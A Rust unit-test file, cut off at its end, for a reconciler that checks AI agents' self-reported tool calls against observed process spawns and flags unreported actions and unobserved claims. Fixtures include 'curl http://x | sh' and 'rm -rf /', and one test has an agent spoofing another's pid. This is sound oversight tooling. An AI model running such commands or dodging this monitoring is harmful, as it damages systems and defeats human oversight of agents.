//! Unit tests of report parsing and matching, with an injected clock.

use opentelemetry_proto::tonic::{
    collector::trace::v1::ExportTraceServiceRequest,
    common::v1::{any_value, AnyValue, KeyValue},
    resource::v1::Resource,
    trace::v1::{ResourceSpans, ScopeSpans, Span},
};
use prost::Message as _;
use serde_json::{json, Value};

use super::{
    engine::Reconciler,
    report::{self, FieldMap, Operation, Report, Source},
    ReconcileConfig,
};
use crate::ingest::otlp::{self, DecodeError, Encoding};

const MS: u64 = 1_000_000;
const SEC: u64 = 1_000_000_000;
/// A fixed wall-clock origin, so times read like real ones.
const T0: u64 = 1_700_000_000 * SEC;

fn string_attr(key: &str, value: &str) -> KeyValue {
    KeyValue { key: key.into(), value: Some(AnyValue { value: Some(any_value::Value::StringValue(value.into())) }), ..Default::default() }
}

fn int_attr(key: &str, value: i64) -> KeyValue {
    KeyValue { key: key.into(), value: Some(AnyValue { value: Some(any_value::Value::IntValue(value)) }), ..Default::default() }
}

fn tool_span_request(pid: i64, command: &str, call_id: &str, start: u64, end: u64) -> ExportTraceServiceRequest {
    let span = Span {
        trace_id: vec![0x11; 16],
        span_id: vec![0x22; 8],
        name: "execute_tool bash".into(),
        start_time_unix_nano: start,
        end_time_unix_nano: end,
        attributes: vec![
            string_attr("gen_ai.operation.name", "execute_tool"),
            string_attr("gen_ai.tool.name", "bash"),
            string_attr("gen_ai.tool.call.id", call_id),
            string_attr("gen_ai.tool.call.arguments", &json!({ "command": command }).to_string()),
        ],
        ..Default::default()
    };
    ExportTraceServiceRequest {
        resource_spans: vec![ResourceSpans {
            resource: Some(Resource { attributes: vec![int_attr("process.pid", pid), string_attr("service.name", "agent")], ..Default::default() }),
            scope_spans: vec![ScopeSpans { spans: vec![span], ..Default::default() }],
            schema_url: String::new(),
        }],
    }
}

#[test]
fn protobuf_execute_tool_span() {
    let body = tool_span_request(42, "ls -la /tmp", "call_1", T0, T0 + SEC).encode_to_vec();
    let request = otlp::decode_traces(&body, Encoding::Protobuf).unwrap();
    let reports = report::from_traces(&request);
    assert_eq!(reports.len(), 1);
    let report = &reports[0];
    assert_eq!(report.operation, Operation::ExecuteTool);
    assert_eq!(report.tool_name.as_deref(), Some("bash"));
    assert_eq!(report.call_id.as_deref(), Some("call_1"));
    assert_eq!(report.command.as_deref(), Some("ls -la /tmp"));
    assert_eq!(report.pid, Some(42));
    assert_eq!(report.trace_id.as_deref(), Some("11111111111111111111111111111111"));
    assert_eq!(report.span_id.as_deref(), Some("2222222222222222"));
    assert_eq!((report.start_ns, report.end_ns), (T0, T0 + SEC));
}

#[test]
fn json_lenient_values() {
    let body = json!({
        "resourceSpans": [{
            "resource": { "attributes": [
                { "key": "process.pid", "value": { "intValue": "4242" } },
                { "key": "service.instance.id", "value": { "stringValue": "inst-1" } },
            ], "unknownResourceField": 1 },
            "scope_spans": [{
                "scope": { "name": "agent" },
                "spans": [{
                    "traceId": "5B8EFFF798038103D269B633813FC60C",
                    "spanId": "EEE19B7EC3C1B174",
                    "name": "run tool",
                    "kind": "SPAN_KIND_INTERNAL",
                    "startTimeUnixNano": "1700000000000000000",
                    "endTimeUnixNano": 1700000001000000000u64,
                    "flags": "1",
                    "attributes": [
                        { "key": "tool.name", "value": { "stringValue": "shell" } },
                        { "key": "tool_call.id", "value": { "stringValue": "toolu_9" } },
                        { "key": "retry", "value": { "boolValue": "true" } },
                        { "key": "score", "value": { "doubleValue": "0.5" } },
                        { "key": "input.value", "value": { "stringValue": "{\"cmd\": [\"ls\", \"/\"]}" } },
                    ],
                    "status": { "code": "2", "message": "failed" },
                    "extra": { "ignored": true },
                }],
            }],
        }],
    });
    let request = otlp::decode_traces(body.to_string().as_bytes(), Encoding::Json).unwrap();
    let span = &request.resource_spans[0].scope_spans[0].spans[0];
    assert_eq!(span.kind, 1);
    assert_eq!(span.flags, 1);
    assert_eq!(span.status.as_ref().unwrap().code, 2);
    assert_eq!(span.end_time_unix_nano, 1_700_000_001_000_000_000);
    let attribute = |key: &str| span.attributes.iter().find(|kv| kv.key == key).and_then(|kv| kv.value.clone()).and_then(|v| v.value);
    assert_eq!(attribute("retry"), Some(any_value::Value::BoolValue(true)));
    assert_eq!(attribute("score"), Some(any_value::Value::DoubleValue(0.5)));

    let reports = report::from_traces(&request);
    assert_eq!(reports.len(), 1, "a span with an older tool attribute is a tool call");
    let report = &reports[0];
    assert_eq!(report.operation, Operation::ExecuteTool);
    assert_eq!(report.tool_name.as_deref(), Some("shell"));
    assert_eq!(report.call_id.as_deref(), Some("toolu_9"));
    assert_eq!(report.command.as_deref(), Some("ls /"));
    assert_eq!(report.pid, Some(4242));
    assert_eq!(report.service_instance_id.as_deref(), Some("inst-1"));
    assert_eq!(report.trace_id.as_deref(), Some("5b8efff798038103d269b633813fc60c"));
}

#[test]
fn json_base64_ids_accepted() {
    // The protobuf JSON mapping encodes bytes as base64: 16 bytes are 24
    // characters, which cannot be mistaken for 32 hex digits.
    let body = json!({ "resourceSpans": [{ "scopeSpans": [{ "spans": [{
        "traceId": "ERERERERERERERERERERkQ==", "spanId": "IiIiIiIiIiI=", "name": "execute_tool x",
    }] }] }] });
    let request = otlp::decode_traces(body.to_string().as_bytes(), Encoding::Json).unwrap();
    let span = &request.resource_spans[0].scope_spans[0].spans[0];
    assert_eq!(span.trace_id.len(), 16);
    assert_eq!(span.span_id, vec![0x22; 8]);
}

#[test]
fn malformed_bodies_rejected_with_path() {
    let decode = |text: &str| otlp::decode_traces(text.as_bytes(), Encoding::Json);
    assert!(matches!(decode("{not json"), Err(DecodeError::Json(_))));
    assert!(matches!(decode("[]"), Err(DecodeError::Field { .. })));
    match decode(r#"{"resourceSpans": {"a": 1}}"#) {
        Err(DecodeError::Field { path, .. }) => assert_eq!(path, "$.resourceSpans"),
        other => panic!("expected a field error, got {other:?}"),
    }
    match decode(r#"{"resourceSpans": [{"scopeSpans": [{"spans": [{"traceId": "zz"}]}]}]}"#) {
        Err(DecodeError::Field { path, .. }) => assert_eq!(path, "$.resourceSpans[0].scopeSpans[0].spans[0].traceId"),
        other => panic!("expected a field error, got {other:?}"),
    }
    assert!(decode(r#"{"resourceSpans": [{"scopeSpans": [{"spans": [{"startTimeUnixNano": "soon"}]}]}]}"#).is_err());
    let mut deep = String::from(r#"{"resourceSpans":[{"resource":{"attributes":[{"key":"k","value":"#);
    // 40 levels stay inside serde_json's own recursion limit of 128.
    for _ in 0..40 {
        deep.push_str(r#"{"arrayValue":{"values":["#);
    }
    deep.push_str("{}");
    for _ in 0..40 {
        deep.push_str("]}}");
    }
    deep.push_str("}]}}]}");
    assert!(matches!(decode(&deep), Err(DecodeError::Field { .. })), "deep nesting is bounded");
    assert!(matches!(otlp::decode_traces(&[0xff, 0xff, 0xff], Encoding::Protobuf), Err(DecodeError::Protobuf(_))));
    assert!(otlp::decode_logs(b"\x0a\x05\x0a", Encoding::Protobuf).is_err());
    assert_eq!(Encoding::from_content_type("application/json; charset=utf-8"), Some(Encoding::Json));
    assert_eq!(Encoding::from_content_type("text/plain"), None);
}

#[test]
fn log_events_of_tool_results() {
    let body = json!({ "resourceLogs": [{
        "resource": { "attributes": [{ "key": "process.pid", "value": { "intValue": 77 } }] },
        "scopeLogs": [{ "logRecords": [
            { "timeUnixNano": "1700000010000000000", "attributes": [
                { "key": "event.name", "value": { "stringValue": "claude_code.tool_result" } },
                { "key": "session.id", "value": { "stringValue": "sess-1" } },
                { "key": "tool_name", "value": { "stringValue": "Bash" } },
                { "key": "tool_use_id", "value": { "stringValue": "toolu_1" } },
                { "key": "duration_ms", "value": { "stringValue": "1500" } },
                { "key": "tool_parameters", "value": { "stringValue": "{\"bash_command\":\"ls\",\"full_command\":\"ls -la\"}" } },
            ]},
            { "timeUnixNano": "1700000011000000000", "eventName": "tool_decision", "attributes": [
                { "key": "tool_name", "value": { "stringValue": "Bash" } },
                { "key": "decision", "value": { "stringValue": "reject" } },
            ]},
            { "timeUnixNano": "1700000012000000000", "body": { "stringValue": "hello" } },
        ] }],
    }] });
    let request = otlp::decode_logs(body.to_string().as_bytes(), Encoding::Json).unwrap();
    let reports = report::from_logs(&request, 0);
    assert_eq!(reports.len(), 2, "the plain log line is not a report");
    let result = &reports[0];
    assert_eq!(result.source, Source::OtlpLog);
    assert_eq!(result.operation, Operation::ExecuteTool);
    assert_eq!(result.command.as_deref(), Some("ls -la"), "full_command wins over bash_command");
    assert_eq!(result.session_id.as_deref(), Some("sess-1"));
    assert_eq!(result.end_ns, T0 + 10 * SEC);
    assert_eq!(result.start_ns, T0 + 10 * SEC - 1500 * MS);
    assert!(!result.point_in_time);
    assert!(reports[1].declined);
}

#[test]
fn json_lines_field_map_and_mcp() {
    let map = FieldMap {
        session_id: "meta.session".into(),
        tool_name: "tool".into(),
        tool_call_id: "id".into(),
        arguments: "input".into(),
        timestamp: "ts".into(),
        ..FieldMap::default()
    };
    let line = json!({ "meta": { "session": "s1" }, "tool": "bash", "id": 7, "input": { "command": "make test" }, "ts": "2023-11-14T22:13:20Z", "pid": "99" });
    let report = report::from_json_line(&line, &map, "/var/log/a.jsonl", 5).unwrap();
    assert_eq!(report.source, Source::Jsonl);
    assert_eq!(report.session_id.as_deref(), Some("s1"));
    assert_eq!(report.call_id.as_deref(), Some("7"));
    assert_eq!(report.command.as_deref(), Some("make test"));
    assert_eq!(report.start_ns, T0);
    assert_eq!(report.pid, Some(99));
    assert!(report.point_in_time);

    let mcp = json!({ "direction": "send", "message": {
        "jsonrpc": "2.0", "id": "req-3", "method": "tools/call",
        "params": { "name": "run_command", "arguments": { "cmd": "git status" } },
    }, "timestamp": 1_700_000_000_000u64 });
    let report = report::from_json_line(&mcp, &FieldMap::default(), "/tmp/mcp.jsonl", 5).unwrap();
    assert_eq!(report.source, Source::Mcp);
    assert_eq!(report.tool_name.as_deref(), Some("run_command"));
    assert_eq!(report.call_id.as_deref(), Some("req-3"));
    assert_eq!(report.command.as_deref(), Some("git status"));
    assert_eq!(report.start_ns, T0, "milliseconds recognised by magnitude");

    assert!(report::from_json_line(&json!({ "level": "info" }), &FieldMap::default(), "f", 0).is_none());
    assert!(report::from_json_line(&json!({ "method": "tools/list", "params": {} }), &FieldMap::default(), "f", 0).is_none());
}

#[test]
fn timestamps_by_magnitude() {
    assert_eq!(report::timestamp_ns(&json!(1_700_000_000)), Some(T0));
    assert_eq!(report::timestamp_ns(&json!(1_700_000_000_000_000u64)), Some(T0));
    assert_eq!(report::timestamp_ns(&json!("1700000000000000000")), Some(T0));
    assert_eq!(report::timestamp_ns(&json!("2023-11-14T22:13:20.5Z")), Some(T0 + 500 * MS));
    assert_eq!(report::timestamp_ns(&json!("yesterday")), None);
    assert_eq!(report::timestamp_ns(&json!(-5)), None);
}

#[test]
fn long_arguments_cut_at_char_boundary() {
    let mut report = report::from_json_line(&json!({ "tool_name": "x" }), &FieldMap::default(), "f", 0).unwrap();
    report.set_arguments(&json!("é".repeat(report::MAX_ARGUMENT_BYTES)));
    assert!(report.arguments_truncated);
    assert!(report.arguments.unwrap().len() <= report::MAX_ARGUMENT_BYTES);
}

// Matching.

fn config() -> ReconcileConfig {
    ReconcileConfig { grace_ms: 1_000, ..ReconcileConfig::default() }
}

/// Builds evidence records the way the daemon writes them.
struct Agent {
    pid: u32,
    agent_id: String,
    session: String,
}

impl Agent {
    fn new(pid: u32, session: &str) -> Agent {
        Agent { pid, agent_id: format!("boot:{pid}:1:1"), session: session.into() }
    }

    fn section(&self) -> Value {
        json!({ "agent_id": self.agent_id, "session_id": self.session, "registered": false, "detected_by": [] })
    }

    fn detected(&self, time: u64) -> Value {
        json!({ "kind": "agent.detected", "id": format!("d{}", self.pid), "time_unix_nano": time,
            "process": { "pid": self.pid, "exec_id": self.agent_id, "argv": ["agent"], "ancestry": [] },
            "agent": self.section() })
    }

    fn spawn(&self, pid: u32, argv: &[&str], parent: Option<&str>, time: u64) -> Value {
        let exec_id = format!("boot:{pid}:2:{time}");
        let parent = parent.map_or(self.agent_id.clone(), str::to_owned);
        json!({ "kind": "tool.spawn", "id": format!("s{pid}-{time}"), "time_unix_nano": time,
            "process": { "pid": pid, "exec_id": exec_id, "parent_exec_id": parent, "argv": argv,
                "ancestry": [parent, self.agent_id], "exe": format!("/usr/bin/{}", argv[0]) },
            "agent": self.section() })
    }

    fn exit(&self, pid: u32, exec_id: &str, time: u64) -> Value {
        json!({ "kind": "process.exit", "time_unix_nano": time,
            "process": { "pid": pid, "exec_id": exec_id, "ancestry": [] }, "agent": self.section() })
    }

    fn root_exit(&self, time: u64) -> Value {
        self.exit(self.pid, &self.agent_id.clone(), time)
    }
}

fn tool_report(pid: u32, command: &str, call_id: &str, start: u64, end: u64) -> Report {
    let request = tool_span_request(pid.into(), command, call_id, start, end);
    report::from_traces(&request).remove(0)
}

fn kinds(outputs: &[super::Output], kind: &str) -> Vec<Value> {
    outputs.iter().filter(|o| o.kind == kind).map(|o| Value::Object(o.sections.clone())).collect()
}

#[test]
fn three_of_four_reported() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let commands = ["ls /tmp", "id", "uname -a", "whoami"];
    for (i, command) in commands.iter().enumerate() {
        let start = T0 + (i as u64 + 1) * SEC;
        let spawn = agent.spawn(200 + i as u32, &["sh", "-c", command], None, start + 10 * MS);
        let exec_id = spawn["process"]["exec_id"].as_str().unwrap().to_owned();
        engine.observe(spawn.clone(), start + 10 * MS);
        engine.observe(agent.exit(200 + i as u32, &exec_id, start + 100 * MS), start + 100 * MS);
        if i != 2 {
            engine.report(tool_report(100, command, &format!("call_{i}"), start, start + 200 * MS), start + 300 * MS);
        }
    }
    assert!(engine.tick(T0 + 2 * SEC).is_empty(), "nothing is decided inside the grace window");
    let end = T0 + 5 * SEC;
    engine.observe(agent.root_exit(end), end);
    let outputs = engine.tick(end + 1500 * MS);
    let unreported = kinds(&outputs, "finding.unreported_action");
    assert_eq!(unreported.len(), 1, "{outputs:#?}");
    assert_eq!(unreported[0]["process"]["argv"], json!(["sh", "-c", "uname -a"]));
    assert_eq!(unreported[0]["finding"]["evidence"]["observed"]["ancestry"][0], json!(agent.agent_id));
    assert_eq!(unreported[0]["finding"]["evidence"]["reported"]["telemetry_received"], json!(true));
    assert!(kinds(&outputs, "finding.unobserved_claim").is_empty());
    let summary = kinds(&outputs, "reconcile.summary");
    assert_eq!(summary.len(), 1);
    assert_eq!(summary[0]["reconcile"]["text"], "3 of 4 observed actions reported");
    assert_eq!(summary[0]["reconcile"]["matched_by"]["command"], 3);
    assert_eq!(summary[0]["reconcile"]["ended_by"], "agent_exit");
    assert_eq!(engine.stats.matched, 3);
    assert_eq!(engine.agent_count(), 1, "kept for late reports");
    assert!(engine.tick(end + 10 * SEC).is_empty());
    assert_eq!(engine.agent_count(), 0, "an exited agent whose every decision is written is dropped");
}

#[test]
fn grace_window_uses_injected_clock() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let spawn = agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC);
    engine.observe(spawn.clone(), T0 + SEC);
    engine.observe(agent.exit(201, spawn["process"]["exec_id"].as_str().unwrap(), T0 + 2 * SEC), T0 + 2 * SEC);
    assert!(engine.tick(T0 + 2 * SEC + 999 * MS).is_empty());
    let outputs = engine.tick(T0 + 3 * SEC);
    assert_eq!(kinds(&outputs, "finding.unreported_action").len(), 1);
}

#[test]
fn report_outside_window_is_a_claim() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let spawn = agent.spawn(201, &["sh", "-c", "ls /tmp"], None, T0 + SEC);
    engine.observe(spawn.clone(), T0 + SEC);
    // Reported 10 s after the process started: beyond window_before_ms.
    engine.report(tool_report(100, "ls /tmp", "c1", T0 + 11 * SEC, T0 + 12 * SEC), T0 + 12 * SEC);
    let outputs = engine.finish(T0 + 20 * SEC);
    assert_eq!(kinds(&outputs, "finding.unreported_action").len(), 1);
    let claims = kinds(&outputs, "finding.unobserved_claim");
    assert_eq!(claims.len(), 1);
    assert_eq!(claims[0]["finding"]["evidence"]["reported"]["command"], "ls /tmp");
    assert_eq!(claims[0]["finding"]["evidence"]["attributed_by"], "process_pid");
    assert_eq!(claims[0]["process"]["pid"], 100, "the claim names the agent process");
}

#[test]
fn interleaved_agents_never_cross() {
    let a = Agent::new(100, "a-1");
    let b = Agent::new(300, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(a.detected(T0), T0);
    engine.observe(b.detected(T0), T0);
    // Both run the same commands, interleaved 100 ms apart, and only A
    // reports. A's reports are nearer in time to B's processes than to A's.
    for i in 0..3u64 {
        let base = T0 + (i + 1) * SEC;
        engine.observe(a.spawn(110 + i as u32, &["sh", "-c", "make"], None, base), base);
        engine.observe(b.spawn(310 + i as u32, &["sh", "-c", "make"], None, base + 100 * MS), base + 100 * MS);
        engine.report(tool_report(100, "make", &format!("a{i}"), base + 100 * MS, base + 150 * MS), base + 200 * MS);
    }
    let outputs = engine.finish(T0 + 30 * SEC);
    let unreported = kinds(&outputs, "finding.unreported_action");
    assert_eq!(unreported.len(), 3);
    assert!(unreported.iter().all(|f| f["agent"]["agent_id"] == json!(b.agent_id)), "{unreported:#?}");
    assert!(kinds(&outputs, "finding.unobserved_claim").is_empty());
    let summaries = kinds(&outputs, "reconcile.summary");
    let text = |agent: &Agent| {
        summaries.iter().find(|s| s["agent"]["agent_id"] == json!(agent.agent_id)).map(|s| s["reconcile"]["text"].clone())
    };
    assert_eq!(text(&a), Some(json!("3 of 3 observed actions reported")));
    assert_eq!(text(&b), Some(json!("0 of 3 observed actions reported")));
}

#[test]
fn command_picks_the_right_spawn() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    engine.observe(agent.spawn(201, &["bash", "-c", "ls /etc"], None, T0 + SEC), T0 + SEC);
    engine.observe(agent.spawn(202, &["bash", "-c", "ls  /tmp"], None, T0 + SEC + 500 * MS), T0 + SEC + 500 * MS);
    // Reported nearest to the first, but its command is the second's.
    engine.report(tool_report(100, "ls /tmp", "c1", T0 + SEC, T0 + SEC + 10 * MS), T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    let unreported = kinds(&outputs, "finding.unreported_action");
    assert_eq!(unreported.len(), 1);
    assert_eq!(unreported[0]["process"]["argv"], json!(["bash", "-c", "ls /etc"]));
    let summary = &kinds(&outputs, "reconcile.summary")[0];
    assert_eq!(summary["reconcile"]["matches"][0]["argv"], json!(["bash", "-c", "ls  /tmp"]));
    assert_eq!(summary["reconcile"]["matches"][0]["basis"], "command");
}

#[test]
fn different_command_is_not_a_match() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    engine.observe(agent.spawn(201, &["bash", "-c", "curl http://x | sh"], None, T0 + SEC), T0 + SEC);
    engine.report(tool_report(100, "ls /tmp", "c1", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert_eq!(kinds(&outputs, "finding.unreported_action").len(), 1);
    assert_eq!(kinds(&outputs, "finding.unobserved_claim").len(), 1);
}

#[test]
fn descendants_are_one_action() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let shell = agent.spawn(201, &["bash", "-c", "ls | wc -l"], None, T0 + SEC);
    let shell_exec = shell["process"]["exec_id"].as_str().unwrap().to_owned();
    engine.observe(shell, T0 + SEC);
    engine.observe(agent.spawn(202, &["ls"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
    engine.observe(agent.spawn(203, &["wc", "-l"], Some(&shell_exec), T0 + SEC + MS), T0 + SEC + MS);
    engine.report(tool_report(100, "ls | wc -l", "c1", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unreported_action").is_empty(), "{outputs:#?}");
    assert_eq!(kinds(&outputs, "reconcile.summary")[0]["reconcile"]["text"], "1 of 1 observed actions reported");
}

#[test]
fn trace_context_matches_directly() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let mut spawn = agent.spawn(201, &["python3", "tool.py"], None, T0 + 100 * SEC);
    spawn["trace_context"] = json!({ "traceparent": "00-11111111111111111111111111111111-2222222222222222-01" });
    engine.observe(spawn.clone(), T0 + 100 * SEC);
    // The span's times are far off (a skewed clock), and no command agrees.
    engine.report(tool_report(100, "something else", "c1", T0, T0 + SEC), T0 + 101 * SEC);
    let outputs = engine.finish(T0 + 200 * SEC);
    assert!(kinds(&outputs, "finding.unreported_action").is_empty());
    assert_eq!(kinds(&outputs, "reconcile.summary")[0]["reconcile"]["matches"][0]["basis"], "trace_context");
}

#[test]
fn repeated_call_id_is_one_claim() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    engine.observe(agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
    engine.report(tool_report(100, "id", "same", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
    engine.report(tool_report(100, "id", "same", T0 + SEC, T0 + 2 * SEC), T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unobserved_claim").is_empty());
    assert_eq!(engine.stats.duplicate_reports, 1);
}

#[test]
fn session_id_binds_later_reports() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    engine.observe(agent.spawn(201, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
    let mut first = tool_report(100, "true", "c0", T0, T0);
    first.operation = Operation::Chat;
    first.session_id = Some("conv-1".into());
    engine.report(first, T0 + SEC);
    let mut second = tool_report(0, "id", "c1", T0 + SEC, T0 + 2 * SEC);
    second.pid = None;
    second.session_id = Some("conv-1".into());
    engine.report(second, T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unreported_action").is_empty(), "{outputs:#?}");
    assert_eq!(engine.stats.unattributed_reports, 0);
}

#[test]
fn unknown_sender_is_unattributed() {
    let mut engine = Reconciler::new(config());
    engine.report(tool_report(999, "id", "c1", T0, T0 + SEC), T0 + SEC);
    assert!(engine.tick(T0 + SEC + 500 * MS).is_empty());
    assert_eq!(engine.stats.unattributed_reports, 0, "kept until the grace window ends");
    engine.tick(T0 + 3 * SEC);
    assert_eq!(engine.stats.unattributed_reports, 1);
}

#[test]
fn socket_peer_wins_over_claimed_pid() {
    let a = Agent::new(100, "a-1");
    let b = Agent::new(300, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(a.detected(T0), T0);
    engine.observe(b.detected(T0), T0);
    engine.observe(b.spawn(301, &["sh", "-c", "id"], None, T0 + SEC), T0 + SEC);
    // B sends a report that claims to be A.
    let mut report = tool_report(100, "id", "c1", T0 + SEC, T0 + 2 * SEC);
    report.sender_pid = Some(300);
    engine.report(report, T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unreported_action").is_empty());
    let b_summary = kinds(&outputs, "reconcile.summary").into_iter().find(|s| s["agent"]["agent_id"] == json!(b.agent_id)).unwrap();
    assert_eq!(b_summary["reconcile"]["reported_actions"], 1);
}

#[test]
fn non_process_tool_is_no_claim() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let mut report = tool_report(100, "x", "c1", T0, T0 + SEC);
    report.command = None;
    report.tool_name = Some("web_search".into());
    engine.report(report, T0 + SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unobserved_claim").is_empty());
    assert_eq!(kinds(&outputs, "reconcile.summary")[0]["reconcile"]["tool_calls_without_process"], 1);
}

#[test]
fn offline_matches_live_on_same_input() {
    let agent = Agent::new(100, "b-1");
    let mut records = vec![agent.detected(T0)];
    for (i, command) in ["ls", "id", "env"].iter().enumerate() {
        let time = T0 + (i as u64 + 1) * SEC;
        let spawn = agent.spawn(200 + i as u32, &["sh", "-c", command], None, time);
        let exit = agent.exit(200 + i as u32, spawn["process"]["exec_id"].as_str().unwrap(), time + 10 * MS);
        records.extend([spawn, exit]);
    }
    records.push(agent.root_exit(T0 + 5 * SEC));
    let reports = vec![tool_report(100, "ls", "c0", T0 + SEC, T0 + SEC), tool_report(100, "rm -rf /", "c9", T0 + 2 * SEC, T0 + 2 * SEC)];

    // The live run gets records and reports in the order of their arrival
    // and decides on every step.
    let mut live = Reconciler::new(config());
    let mut live_out = Vec::new();
    let mut timeline: Vec<(u64, Option<&Value>, Option<&Report>)> =
        records.iter().map(|r| (r["time_unix_nano"].as_u64().unwrap(), Some(r), None)).collect();
    timeline.extend(reports.iter().map(|r| (r.end_ns + 100 * MS, None, Some(r))));
    timeline.sort_by_key(|(time, _, _)| *time);
    for (time, record, report) in timeline {
        if let Some(record) = record {
            live.observe(record.clone(), time);
        }
        if let Some(report) = report {
            live.report(report.clone(), time);
        }
        live_out.extend(live.tick(time));
    }
    live_out.extend(live.tick(T0 + 60 * SEC));

    let dir = std::env::temp_dir().join(format!("agent-sensor-offline-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let evidence = dir.join("evidence.jsonl");
    let lines: Vec<String> = records.iter().enumerate().map(|(seq, r)| {
        let mut r = r.clone();
        r["seq"] = json!(seq);
        r.to_string()
    }).collect();
    std::fs::write(&evidence, lines.join("\n")).unwrap();
    let telemetry = dir.join("telemetry.jsonl");
    let bodies: Vec<String> = [("ls", "c0", 1), ("rm -rf /", "c9", 2)]
        .iter()
        .map(|(command, id, at)| {
            let request = tool_span_request(100, command, id, T0 + at * SEC, T0 + at * SEC);
            otlp_json(&request).to_string()
        })
        .collect();
    std::fs::write(&telemetry, bodies.join("\n")).unwrap();
    let mut out = Vec::new();
    super::offline::run(&[evidence], &[telemetry], config(), &[], &mut out).unwrap();
    let offline: Vec<Value> = String::from_utf8(out).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let _ = std::fs::remove_dir_all(&dir);

    let key = |kind: &str, value: &Value| {
        format!("{kind} {} {} {}", value["process"]["exec_id"], value["finding"]["evidence"]["reported"]["call_id"], value["reconcile"]["text"])
    };
    let mut live_keys: Vec<String> = live_out.iter().map(|o| key(o.kind, &Value::Object(o.sections.clone()))).collect();
    let mut offline_keys: Vec<String> = offline.iter().map(|v| key(v["kind"].as_str().unwrap(), v)).collect();
    live_keys.sort();
    offline_keys.sort();
    assert_eq!(live_keys.len(), 4, "{live_keys:#?}");
    assert_eq!(live_keys, offline_keys);
}

/// Writes a trace request in the OTLP JSON encoding (hex ids, string
/// integers), as collectors' file exporters do.
fn otlp_json(request: &ExportTraceServiceRequest) -> Value {
    let hex = |bytes: &[u8]| otlp::hex_id(bytes).unwrap_or_default();
    let attributes = |list: &[KeyValue]| -> Vec<Value> {
        list.iter().map(|kv| json!({ "key": kv.key, "value": any_json(kv.value.as_ref().unwrap()) })).collect()
    };
    json!({ "resourceSpans": request.resource_spans.iter().map(|rs| json!({
        "resource": { "attributes": attributes(&rs.resource.as_ref().unwrap().attributes) },
        "scopeSpans": rs.scope_spans.iter().map(|ss| json!({ "spans": ss.spans.iter().map(|s| json!({
            "traceId": hex(&s.trace_id), "spanId": hex(&s.span_id), "name": s.name, "kind": s.kind,
            "startTimeUnixNano": s.start_time_unix_nano.to_string(), "endTimeUnixNano": s.end_time_unix_nano.to_string(),
            "attributes": attributes(&s.attributes),
        })).collect::<Vec<_>>() })).collect::<Vec<_>>(),
    })).collect::<Vec<_>>() })
}

fn any_json(value: &AnyValue) -> Value {
    match &value.value {
        Some(any_value::Value::StringValue(text)) => json!({ "stringValue": text }),
        Some(any_value::Value::IntValue(number)) => json!({ "intValue": number.to_string() }),
        _ => json!({}),
    }
}

#[test]
fn jsonl_report_bound_to_file_writer() {
    let agent = Agent::new(100, "b-1");
    let mut engine = Reconciler::new(config());
    engine.observe(agent.detected(T0), T0);
    let write = json!({ "kind": "file.open", "time_unix_nano": T0, "agent": agent.section(),
        "process": { "pid": 100, "exec_id": agent.agent_id }, "file": { "path": "/tmp/agent/tools.jsonl", "access": "write" } });
    engine.observe(write, T0);
    engine.observe(agent.spawn(201, &["sh", "-c", "make"], None, T0 + SEC), T0 + SEC);
    let line = json!({ "tool_name": "bash", "command": "make", "timestamp": (T0 + SEC) / 1_000 });
    let report = report::from_json_line(&line, &FieldMap::default(), "/tmp/agent/tools.jsonl", 0).unwrap();
    engine.report(report, T0 + 2 * SEC);
    let outputs = engine.finish(T0 + 10 * SEC);
    assert!(kinds(&outputs, "finding.unreported_action").is_empty(), "{outputs:#?}");
    assert_eq!(kinds(&outputs, "reconcile.summary")[0]["reconcile"]["matches"][0]["basis"], "command");
}

#[test]
fn config_problems_name_key_and_line() {
    let text = "[ingest]\nlisten = \"0.0.0.0:4318\"\nupstream = \"https://collector:4318\"\n\n[reconcile]\ngrace_ms = 0\n";
    let problems = crate::config::Config::parse(text).unwrap_err();
    let find = |key: &str| problems.iter().find(|p| p.key == key).unwrap_or_else(|| panic!("no problem for {key}: {problems:?}"));
    assert_eq!(find("ingest.listen").line, Some(2));
    assert!(find("ingest.listen").message.contains("loopback"));
    assert_eq!(find("ingest.upstream").line, Some(3));
    assert_eq!(find("reconcile.grace_ms").line, Some(6));
